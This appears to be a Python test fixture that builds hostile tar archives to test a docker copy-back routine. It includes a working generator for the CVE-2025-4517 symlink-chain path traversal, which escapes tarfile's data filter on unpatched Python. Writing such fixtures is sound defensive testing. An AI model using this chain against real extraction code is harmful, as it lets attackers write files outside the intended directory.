"""Archives crafted against the docker copy-back (what a container's `get_archive` streams is
written by the agent): members as the engine spells them, and the symlink chain of
CVE-2025-4517 as tar members (CPython's own test of the fix; `hostile_repos.tar_chain` is the
same chain as git trees)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


def entry(
    name: str, kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o644
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    return info


def archive(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """A tar of `members` (data only for regular files), in the order given."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            info.size = len(data) if info.isreg() else 0
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buf.getvalue()


def cve_4517_chain(dest: Path) -> bytes:
    """A tar that, extracted into `dest` by tarfile's `data` filter, writes `newfile` (holding
    `new`) beside `dest` on an unpatched Python: folders and links whose expansion passes
    PATH_MAX (`realpath` stops resolving there), then `escape` -> past them and `..`, then
    `escape/newfile`."""
    steps = "abcdefghijklmnop"
    width = (os.pathconf(dest.parent, "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1)
    comp = "d" * width
    members: list[tuple[tarfile.TarInfo, bytes]] = []
    path = ""
    for step in steps:
        members.append((entry(os.path.join(path, comp), tarfile.DIRTYPE, mode=0o755), b""))
        members.append((entry(os.path.join(path, step), tarfile.SYMTYPE, comp), b""))
        path = os.path.join(path, comp)
    through = os.path.join(*steps, "l" * 254)
    members += [
        (entry(through, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps))), b""),
        (entry("escape", tarfile.SYMTYPE, os.path.join(through, "..")), b""),
        (entry("escape/newfile"), b"new"),
    ]
    return archive(members)
